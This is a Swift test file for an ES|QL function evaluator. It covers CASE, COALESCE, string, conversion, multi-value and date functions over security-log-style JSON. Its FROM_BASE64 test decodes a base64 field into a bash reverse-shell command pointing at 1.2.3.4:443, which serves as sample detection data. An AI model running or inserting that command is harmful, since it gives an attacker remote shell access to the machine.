import ESQL
import Testing

struct ESQLFunctionTests {
    @Test func caseTakesTheFirstTrueBranchAndDefaultsToNull() throws {
        let document = #"{"event":{"action":"RunTask"}}"#
        #expect(try value(of: #"CASE(event.action == "RunTask", 1, 0)"#, in: document) == .integer(1))
        #expect(try value(of: #"CASE(event.action == "StartTask", 1, 0)"#, in: document) == .integer(0))
        #expect(
            try value(of: #"CASE(event.action == "X", "a", event.action == "RunTask", "b")"#, in: document)
                == .keyword("b"))
        #expect(try value(of: #"CASE(event.action == "X", "a")"#, in: document) == .null)
        // A null condition is not true.
        #expect(try value(of: #"CASE(user.name == "x", 1, 0)"#, in: document) == .integer(0))
    }

    @Test func coalesceAndConcat() throws {
        let document = #"{"user":{"name":"bob"},"source":{"ip":"1.2.3.4"}}"#
        #expect(try value(of: "COALESCE(user.target.name, user.name)", in: document) == .keyword("bob"))
        #expect(try value(of: "COALESCE(user.target.name, user.id)", in: document) == .null)
        #expect(
            try value(of: #"CONCAT(user.name, " - ", TO_STRING(source.ip))"#, in: document) == .keyword("bob - 1.2.3.4")
        )
        #expect(try value(of: #"CONCAT(user.name, " - ", source.geo.city_name)"#, in: document) == .null)
    }

    @Test func startsWithEndsWithAndToLower() throws {
        let document = #"{"event":{"action":"DescribeInstances"},"file":{"path":"static/js/app.JS"}}"#
        #expect(try value(of: #"STARTS_WITH(event.action, "Describe")"#, in: document) == .boolean(true))
        #expect(try value(of: #"STARTS_WITH(event.action, "describe")"#, in: document) == .boolean(false))
        #expect(try value(of: #"ENDS_WITH(file.path, ".js")"#, in: document) == .boolean(false))
        #expect(try value(of: #"ENDS_WITH(TO_LOWER(file.path), ".js")"#, in: document) == .boolean(true))
        #expect(try value(of: #"STARTS_WITH(user.name, "a")"#, in: document) == .null)
    }

    @Test func fromBase64() throws {
        let document = #"{"user":{"name":"YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0MyAwPiYx"}}"#
        #expect(
            try value(of: "FROM_BASE64(user.name)", in: document) == .keyword("bash -i >& /dev/tcp/1.2.3.4/443 0>&1"))
        #expect(try value(of: "FROM_BASE64(\"aGk\")") == .keyword("hi"))
        #expect(try value(of: "FROM_BASE64(\"not base64!\")") == .null)
    }

    @Test func conversions() throws {
        let document =
            #"{"source":{"port":8080,"ip":"10.1.2.3"},"@timestamp":"2024-01-02T03:04:05Z","user":{"name":"2.5"}}"#
        #expect(try value(of: "TO_STRING(source.port)", in: document) == .keyword("8080"))
        #expect(try value(of: "TO_STRING(@timestamp)", in: document) == .keyword("2024-01-02T03:04:05.000Z"))
        #expect(try value(of: "TO_STRING(0.5)") == .keyword("0.5"))
        #expect(try value(of: "TO_STRING(1.0)") == .keyword("1.0"))
        #expect(try value(of: "TO_DOUBLE(source.port)", in: document) == .double(8080))
        #expect(try value(of: "TO_DOUBLE(user.name)", in: document) == .double(2.5))
        #expect(try value(of: "TO_DOUBLE(\"abc\")") == .null)
        #expect(try value(of: "TO_DOUBLE(3) / TO_DOUBLE(4)") == .double(0.75))
        #expect(try value(of: "3 / 4") == .integer(0))
        #expect(try value(of: "1 / 0") == .null)
    }

    @Test func multiValueFunctionsAndSortedDeduplicatedKeywords() throws {
        let document = #"{"related":{"user":["zed","amy","zed"]},"source":{"port":[9,3,9]}}"#
        #expect(try value(of: "related.user", in: document) == .multi([.keyword("amy"), .keyword("zed")]))
        #expect(try value(of: "source.port", in: document) == .multi([.integer(3), .integer(9), .integer(9)]))
        #expect(try value(of: "MV_COUNT(related.user)", in: document) == .integer(2))
        #expect(try value(of: "MV_FIRST(related.user)", in: document) == .keyword("amy"))
        #expect(try value(of: "MV_COUNT(user.name)", in: document) == .null)
        #expect(try value(of: "TO_LOWER(related.user)", in: document) == .null)
        #expect(
            try value(of: "TO_STRING(source.port)", in: document)
                == .multi([.keyword("3"), .keyword("9"), .keyword("9")]))
    }

    @Test func dateTruncIsUTCAndEpochAligned() throws {
        let document = #"{"@timestamp":"2024-05-01T12:07:41.123+02:00"}"#
        #expect(try value(of: "DATE_TRUNC(5 minute, @timestamp)", in: document) == .date(epoch("2024-05-01T10:05:00Z")))
        #expect(
            try value(of: "DATE_TRUNC(30 minutes, @timestamp)", in: document) == .date(epoch("2024-05-01T10:00:00Z")))
        #expect(
            try value(of: "DATE_TRUNC(10 seconds, @timestamp)", in: document) == .date(epoch("2024-05-01T10:07:40Z")))
        #expect(try value(of: "DATE_TRUNC(1 hour, @timestamp)", in: document) == .date(epoch("2024-05-01T10:00:00Z")))
        #expect(try value(of: "DATE_TRUNC(1 day, @timestamp)", in: document) == .date(epoch("2024-05-01T00:00:00Z")))
        #expect(try value(of: "DATE_TRUNC(1 hour, event.ingested)", in: document) == .null)
    }

    @Test func dateDiffCountsWholeUnits() throws {
        let document = #"{"event":{"start":"2024-05-01T00:00:00Z","end":"2024-05-01T01:00:59.999Z"}}"#
        #expect(try value(of: #"DATE_DIFF("seconds", event.start, event.end)"#, in: document) == .integer(3659))
        #expect(try value(of: #"DATE_DIFF("minute", event.start, event.end)"#, in: document) == .integer(60))
        #expect(try value(of: #"DATE_DIFF("hours", event.end, event.start)"#, in: document) == .integer(-1))
        #expect(syntaxError(#"FROM logs-* | EVAL d = DATE_DIFF("months", event.start, event.end)"#) != nil)
    }

    @Test func nowMinusATimeSpan() throws {
        let now = epoch("2024-05-01T12:00:00Z")
        let query = try parse("FROM logs-* | WHERE @timestamp >= NOW() - 1 hour AND @timestamp < NOW() + 1 second")
        let documents = [
            #"{"@timestamp":"2024-05-01T11:00:00Z"}"#, #"{"@timestamp":"2024-05-01T10:59:59.999Z"}"#,
            #"{"@timestamp":"2024-05-01T12:00:01Z"}"#,
        ]
        let rows = run(query, documents, now: now)
        #expect(rows.map { $0["@timestamp"] } == [.date(epoch("2024-05-01T11:00:00Z"))])
        // NOW() keeps the command out of prepare: the row reaches finish.
        #expect(query.preparedColumns.contains("@timestamp"))
    }

    @Test func kqlRunsOnTheSourceDocument() throws {
        let query = try parse(
            #"FROM logs-* | WHERE NOT KQL("""kibana.alert.rule.tags : "Rule Type: Higher-Order Rule" """)"#,
            schema: .securityAlerts)
        let tagged = #"{"kibana":{"alert":{"rule":{"tags":["Domain: Cloud","Rule Type: Higher-Order Rule"]}}}}"#
        let untagged = #"{"kibana":{"alert":{"rule":{"tags":["Domain: Cloud"]}}}}"#
        #expect(run(query, [tagged]).isEmpty)
        #expect(run(query, [untagged]).count == 1)
    }
}
